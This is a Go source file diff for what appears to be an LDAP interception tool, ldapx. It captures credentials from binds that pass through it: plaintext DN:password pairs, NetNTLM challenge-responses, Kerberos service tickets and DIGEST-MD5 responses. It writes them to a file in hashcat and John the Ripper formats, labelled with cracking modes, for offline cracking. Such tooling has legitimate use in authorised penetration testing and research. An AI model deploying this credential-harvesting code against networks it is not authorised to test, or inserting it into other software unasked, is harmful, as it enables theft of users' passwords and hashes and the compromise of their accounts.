@@ -0,0 +1,147 @@
+package decrypt
+
+import (
+	"encoding/hex"
+	"fmt"
+	"os"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/Macmod/ldapx/log"
+	"github.com/oiweiwei/gokrb5.fork/v9/iana/etypeID"
+	"github.com/oiweiwei/gokrb5.fork/v9/messages"
+)
+
+// CredentialCapture appends the credentials seen in binds to a file, each
+// preceded by a comment line naming the connection it came from and its
+// format:
+//
+//	# [2006-01-02 15:04:05] conn 3 (10.0.0.5:51234) - NetNTLMv2 (hashcat -m 5600)
+//	alice::CORP:1122334455667788:...
+//
+// `grep -v '^#'` leaves only the crackable lines.
+type CredentialCapture struct {
+	mu   sync.Mutex
+	file *os.File
+}
+
+// OpenCredentialCapture opens (creating or appending to) the capture file.
+func OpenCredentialCapture(path string) (*CredentialCapture, error) {
+	f, err := os.OpenFile(path, os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0600)
+	if err != nil {
+		return nil, fmt.Errorf("opening credential capture file: %w", err)
+	}
+	return &CredentialCapture{file: f}, nil
+}
+
+// Path returns the path of the capture file.
+func (c *CredentialCapture) Path() string {
+	return c.file.Name()
+}
+
+func (c *CredentialCapture) record(connID, format, account, line string) {
+	c.mu.Lock()
+	defer c.mu.Unlock()
+
+	entry := fmt.Sprintf("# [%s] conn %s - %s\n%s\n", time.Now().Format("2006-01-02 15:04:05"), connID, format, line)
+	if _, err := c.file.WriteString(entry); err != nil {
+		log.Log.Print(failColor.Sprintf("[-] Failed to write captured credentials: %v", err))
+		return
+	}
+	log.Log.Print(decryptColor.Sprintf("[+] Captured %s credentials for %s (conn %s)", format, account, connID))
+}
+
+// captureSimpleBind records a simple bind's DN and password. Caller holds
+// bs.mu.
+func (bs *BindSession) captureSimpleBind(cfg Config, name, password string) {
+	if cfg.Capture == nil || password == "" {
+		return
+	}
+	cfg.Capture.record(bs.connID, "Simple bind (DN:password)", name, name+":"+password)
+}
+
+// captureCreds records whatever crackable material one round of SASL or
+// Sicily credentials carries. Caller holds bs.mu, with the round already
+// appended to bs.pending.
+func (bs *BindSession) captureCreds(cfg Config, credBytes []byte) {
+	if cfg.Capture == nil {
+		return
+	}
+
+	if authenticate, ok := extractGSSAPINTLMMessage(credBytes); ok {
+		auth, err := parseNTLMAuthenticate(authenticate)
+		if err != nil || auth.User == "" {
+			return
+		}
+		// The CHALLENGE is the last NTLM message of an earlier round
+		for i := len(bs.pending) - 2; i >= 0; i-- {
+			challenge, ok := extractGSSAPINTLMMessage(bs.pending[i])
+			if !ok {
+				continue
+			}
+			ch, err := parseNTLMChallenge(challenge)
+			if err != nil {
+				continue
+			}
+			format := "NetNTLMv1 (hashcat -m 5500)"
+			if ntlmResponseIsV2(auth.NtChallengeResponse) {
+				format = "NetNTLMv2 (hashcat -m 5600)"
+			}
+			cfg.Capture.record(bs.connID, format, auth.Domain+`\`+auth.User, formatNetNTLMHash(ch, auth))
+			return
+		}
+		return
+	}
+
+	if apReq, err := apReqFromBindCreds(credBytes); err == nil {
+		if line, format := formatKrb5TGSHash(apReq); line != "" {
+			cfg.Capture.record(bs.connID, format, apReq.Ticket.SName.PrincipalNameString(), line)
+		}
+		return
+	}
+
+	if resp, err := parseDigestMD5Response(credBytes); err == nil {
+		cfg.Capture.record(bs.connID, "DIGEST-MD5 (john --format=dmd5)", resp.Realm+`\`+resp.Username, formatDigestMD5Hash(resp))
+	}
+}
+
+// formatKrb5TGSHash formats the service ticket of an AP-REQ the way
+// Impacket's GetUserSPNs does. The client's own name is only inside the
+// encrypted parts, so the user field holds the ticket's service name; for
+// AES tickets hashcat derives the salt from it, so it has to be replaced by
+// the service account's sAMAccountName before cracking.
+func formatKrb5TGSHash(apReq *messages.APReq) (line string, format string) {
+	encPart := apReq.Ticket.EncPart
+	etype := encPart.EType
+	cipher := encPart.Cipher
+	realm := apReq.Ticket.Realm
+	spn := strings.ReplaceAll(apReq.Ticket.SName.PrincipalNameString(), ":", "~")
+	user := strings.Join(apReq.Ticket.SName.NameString, "/")
+
+	switch etype {
+	case etypeID.RC4_HMAC:
+		if len(cipher) < 16 {
+			return "", ""
+		}
+		return fmt.Sprintf("$krb5tgs$%d$*%s$%s$%s*$%s$%s", etype, user, realm, spn, hex.EncodeToString(cipher[:16]), hex.EncodeToString(cipher[16:])), "Kerberos TGS-REP etype 23 (hashcat -m 13100)"
+	case etypeID.AES128_CTS_HMAC_SHA1_96, etypeID.AES256_CTS_HMAC_SHA1_96:
+		if len(cipher) < 12 {
+			return "", ""
+		}
+		mode := 19600
+		if etype == etypeID.AES256_CTS_HMAC_SHA1_96 {
+			mode = 19700
+		}
+		n := len(cipher) - 12
+		return fmt.Sprintf("$krb5tgs$%d$%s$%s$*%s*$%s$%s", etype, user, realm, spn, hex.EncodeToString(cipher[n:]), hex.EncodeToString(cipher[:n])), fmt.Sprintf("Kerberos TGS-REP etype %d (hashcat -m %d)", etype, mode)
+	}
+	return "", ""
+}
+
+// formatDigestMD5Hash formats a DIGEST-MD5 response for John the Ripper's
+// dmd5 format.
+func formatDigestMD5Hash(resp *digestMD5Response) string {
+	return fmt.Sprintf("$DIGEST-MD5$%s$%s$%s$%s$%s$%s$%s$%s",
+		resp.Username, resp.Realm, resp.Nonce, resp.DigestURI, resp.Cnonce, resp.NC, resp.QOP, resp.Response)
+}